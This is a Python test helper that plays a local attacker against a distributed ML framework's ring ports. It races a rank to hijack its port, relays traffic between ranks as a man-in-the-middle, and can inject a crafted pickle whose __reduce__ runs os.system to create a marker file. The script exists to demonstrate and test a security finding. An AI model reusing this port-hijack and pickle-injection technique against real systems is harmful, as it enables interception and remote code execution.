"""An attacker on a ring port (issue 25, finding 1), run by tests/reliability/test_ring_relay.py
as its own process (as `nobody` where the test can drop to it):

    python ring_relay.py PORT MODE MARKER

It connects to 127.0.0.1:PORT as soon as the rank there listens (before that rank's ring
neighbour does), then takes the port over once the rank closes its listener, accepts the
neighbour's connection and forwards both ways. MODE ``forward`` relays faithfully (and
reads what crosses); ``pickle`` replaces the first mlx-kit frame it sees (``MKWS``) with a
pickle that would create MARKER if a rank ever unpickled it. Prints ``won`` once it sits
between the two ranks, ``lost`` when a rank connected first.
"""

from __future__ import annotations

import os
import pickle
import socket
import sys
import threading
import time


class _Boom:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def _pump(src: socket.socket, dst: socket.socket, payload: bytes | None) -> None:
    altered = payload is None
    while True:
        try:
            data = src.recv(65536)
        except OSError:
            data = b""
        if not data:
            break
        if not altered and (at := data.find(b"MKWS")) >= 0:
            data = data[:at] + payload[:len(data) - at] + data[at + len(payload):]
            altered = True
            print("altered", flush=True)
        try:
            dst.sendall(data)
        except OSError:
            break
    for s in (src, dst):
        try:
            s.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass


def main() -> None:
    port, mode, marker = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    deadline = time.monotonic() + 120
    while True:  # the rank's listener: connect the moment it is up
        try:
            upstream = socket.create_connection(("127.0.0.1", port), timeout=1)
            break
        except OSError:
            if time.monotonic() > deadline:
                print("no rank", flush=True)
                return
            time.sleep(0.0005)
    upstream.settimeout(None)
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    while True:  # the rank closes its listener once it accepted us: take the port
        try:
            listener.bind(("127.0.0.1", port))
            break
        except OSError:
            if time.monotonic() > deadline:
                print("lost", flush=True)
                return
            time.sleep(0.001)
    listener.listen(1)
    listener.settimeout(60)
    try:
        downstream, _ = listener.accept()
    except OSError:
        print("lost", flush=True)
        return
    print("won", flush=True)
    payload = pickle.dumps(_Boom(marker)) if mode == "pickle" else None
    threads = [threading.Thread(target=_pump, args=(downstream, upstream, payload)),
               threading.Thread(target=_pump, args=(upstream, downstream, payload))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()


if __name__ == "__main__":
    main()
